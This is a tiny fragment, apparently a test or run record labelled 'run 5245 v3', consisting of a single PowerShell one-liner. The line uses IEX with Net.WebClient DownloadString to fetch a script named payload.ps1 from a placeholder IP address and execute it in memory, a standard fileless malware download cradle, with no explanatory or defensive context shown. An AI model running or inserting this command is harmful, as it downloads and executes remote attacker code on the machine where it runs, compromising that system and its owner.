# run 5245 v3
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/payload.ps1')
